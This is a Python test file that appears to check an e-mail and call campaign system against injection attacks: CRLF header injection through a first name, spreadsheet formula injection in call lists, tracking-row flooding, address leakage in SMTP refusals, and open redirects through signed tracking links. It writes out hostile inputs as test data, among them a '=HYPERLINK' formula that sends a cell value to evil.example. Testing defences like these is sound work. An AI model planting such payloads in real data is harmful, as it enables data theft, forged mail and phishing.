"""Attacks through what a campaign puts in a message: a person's values reach headers and texts,
and must not make the message say or go anywhere else. On a real SMTP server, on both stores."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import httpx
import people_rows
import sqlalchemy as sa
from api_helpers import TEST_SECRET, server_key, serving
from campaign_world import add_people, document, email_of
from smtp_sink import Sink, sent_html, start
from test_campaign_send import _free_port

from surmesure.config import Settings
from surmesure.deliver import tracking
from surmesure.deliver.calls import CallChannel, CallSettings
from surmesure.deliver.channel import Message
from surmesure.protect.erase import erase_person
from surmesure.store import Store, schema

INJECTED = "Ana\r\nBcc: eve@example.org\r\nX-Evil: 1\n\nforged body"


def _send_by_email(store: Store, tmp_path: Path, sink: Sink) -> None:
    """The e-mail campaign ``spring`` saved and sent over the API to ``sink``."""
    admin = (server_key(store, "admin"), "")
    port = _free_port()
    controller = start(port, sink)
    body = document(channels={"email": document()["channels"]["email"]}, policy=None)
    try:
        smtp = f"smtp://127.0.0.1:{port}?sender=news@example.com"
        with serving(store, email_url=smtp, outbox_dir=tmp_path / "outbox") as (url, _app):
            assert httpx.put(f"{url}/v1/campaigns", json=body, auth=admin).status_code == 200
            sent = httpx.post(f"{url}/v1/campaigns/spring/send", auth=admin, timeout=60)
            assert sent.status_code == 200, sent.text
    finally:
        controller.stop()


def test_a_first_name_cannot_add_a_header_or_a_recipient(store: Store, tmp_path: Path) -> None:
    """A first name carrying CR LF and header lines (from a form, a CRM file or the public
    write key's ``identify``) is written into the subject as spaces: the message goes to the
    person's address only, with no header the template did not write."""
    add_people(store, tmp_path, 2, extra={1: {"first_name": INJECTED}})
    sink = Sink()
    _send_by_email(store, tmp_path, sink)
    assert sorted(rcpt for _, rcpts, _ in sink.received for rcpt in rcpts) == [
        email_of(1),
        email_of(2),
    ]
    mails = {str(m["To"]): m for m in sink.messages()}
    ana = mails[email_of(1)]
    assert ana["Bcc"] is None and ana["X-Evil"] is None
    subject = str(ana["Subject"])
    assert "\r" not in subject and "\n" not in subject
    assert subject.startswith("Hello Ana") and "eve@example.org" in subject  # as text
    names = [name.lower() for name in ana]
    assert names == [name.lower() for name in mails[email_of(2)]]  # the same headers


def test_a_call_script_cannot_run_as_a_spreadsheet_formula(tmp_path: Path) -> None:
    """Once succeeded: a script beginning with a person's value (``=HYPERLINK(...)`` as a first
    name) was written as is to the call list, which the centre opens in a spreadsheet that
    runs it as a formula. Such a cell is now written after an apostrophe; the phone number,
    which begins with ``+``, is left as it is (checked as a number already)."""
    scripts = [
        '=HYPERLINK("http://evil.example/?leak="&A2,"Ana")',
        "+33 1 23 45 67 89",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "Bonjour =1",
    ]
    messages = [
        Message(f"c{n}", "phone", "+33612345678", text, person_id=n)
        for n, text in enumerate(scripts, start=1)
    ]
    channel = CallChannel(CallSettings(folder=tmp_path))
    results = channel.send(messages)
    channel.close()
    assert [r.outcome for r in results] == ["sent"] * len(scripts)
    assert channel.last_batch is not None
    with channel.last_batch.open(newline="", encoding="utf-8") as data:
        rows = {row["message_id"]: row for row in csv.DictReader(data)}
    written = [rows[f"c{n}"]["script"] for n in range(1, len(scripts) + 1)]
    assert written == ["'" + s for s in scripts[:5]] + [scripts[5]]
    assert {row["phone"] for row in rows.values()} == {"+33612345678"}


def test_a_tracking_link_asked_for_in_a_loop_writes_one_row(store: Store) -> None:
    """Once succeeded: the open pixel and click redirect need no key, and each request wrote a
    row, so anyone holding one e-mail could fill the store (and make their engagement what
    they liked). An open or a click of one token is now one row per hour; the answers are
    the same (the image, the redirect) every time."""
    people_rows.add_people(store, (7, None))
    with serving(store) as (url, _app):
        html = tracking.track(
            '<a href="https://shop.example/a">a</a><a href="https://shop.example/b">b</a>',
            7,
            "spring",
            public_url=url,
            secret=TEST_SECRET,
        )
        clicks = re.findall(rf'href="({re.escape(url)}/t/c/[^"]+)"', html)
        [pixel] = re.findall(rf'src="({re.escape(url)}/t/o/[^"]+)"', html)
        with httpx.Client() as client:
            opened = {client.get(pixel).status_code for _ in range(60)}
            clicked = {
                client.get(c, follow_redirects=False).headers["location"]
                for c in clicks
                for _ in range(30)
            }
    assert opened == {200}
    assert clicked == {"https://shop.example/a", "https://shop.example/b"}
    assert sorted(people_rows.activity_rows(store, "kind", "url")) == [
        ("clicked", "https://shop.example/a"),
        ("clicked", "https://shop.example/b"),
        ("opened", None),
    ]


def test_a_refusal_quoting_the_address_keeps_no_address(store: Store, tmp_path: Path) -> None:
    """Once succeeded: a server's refusal (``550 5.1.1 <address>: Recipient address
    rejected``) was kept as the outbox row's reason, so the address an erasure destroys (it is
    sealed at rest) stayed in clear in a row that erasure keeps, detached, for the counts."""
    ids = add_people(store, tmp_path, 2)
    refused = email_of(1)
    sink = Sink(refuse={refused: f"550 5.1.1 <{refused}>: Recipient address rejected ({refused})"})
    _send_by_email(store, tmp_path, sink)
    erase_person(store, f"customer_id:C{1}", confirmed=True)
    m = schema.messages
    with store.connect() as conn:
        rows = {
            r.person_id: r for r in conn.execute(sa.select(m.c.person_id, m.c.status, m.c.reason))
        }
    assert rows[None].status == "failed"  # person 1's row, detached by the erasure
    assert rows[None].reason.startswith("550 5.1.1 <(recipient)>")
    assert rows[ids[2]].status == "sent"
    with store.connect() as conn:
        texts = conn.execute(sa.select(m.c.reason, m.c.provider_id)).all()
    assert all(refused not in str(value) for row in texts for value in row)


def test_a_link_built_from_a_persons_value_is_never_signed(tmp_path: Path) -> None:
    """Once succeeded: a template linking to a person's own value (``href="{{ person.website
    }}"``, a trait anyone may set through the public collection key) made the tracker sign
    whatever URL they chose: a redirect on the sender's domain to a site of theirs. Only links
    to a host the campaign's templates write (or the shop's, from the settings) are tracked;
    the others leave as they are, unsigned. Sent to a real SMTP server."""
    from surmesure.deliver.content import ChannelTemplates
    from surmesure.domain.campaigns import ChannelContent

    html = (
        '<html><body><a href="https://shop.example/spring?a=1">Shop</a> '
        '<a href="{{ person.website }}">You</a> '
        '<a href="https://shop.example.{{ person.tld }}/x">Near</a></body></html>'
    )
    content = ChannelContent.model_validate({"subject": "Hello", "text": "Hi", "html": html})
    hosts = ChannelTemplates("spring", "email", content, Settings()).link_hosts
    assert hosts == frozenset({"shop.example"})
    rendered = html.replace("{{ person.website }}", "https://evil.example/phish").replace(
        "{{ person.tld }}", "evil.example"
    )
    message = Message(
        "m1", "email", "ana@example.org", "Hi", "Hello", html=rendered, person_id=3,
        headers={"X-Campaign": "spring"}, link_hosts=hosts,
    )  # fmt: skip
    sent = sent_html(message, "https://news.example", TEST_SECRET)
    links = re.findall(r'href="([^"]+)"', sent)
    tracked = [u for u in links if u.startswith("https://news.example/t/c/")]
    assert len(tracked) == 1
    payload = tracking.read(tracked[0].rsplit("/", 1)[1], TEST_SECRET)
    assert payload is not None and payload["u"] == "https://shop.example/spring?a=1"
    assert "https://evil.example/phish" in links
    assert "https://shop.example.evil.example/x" in links
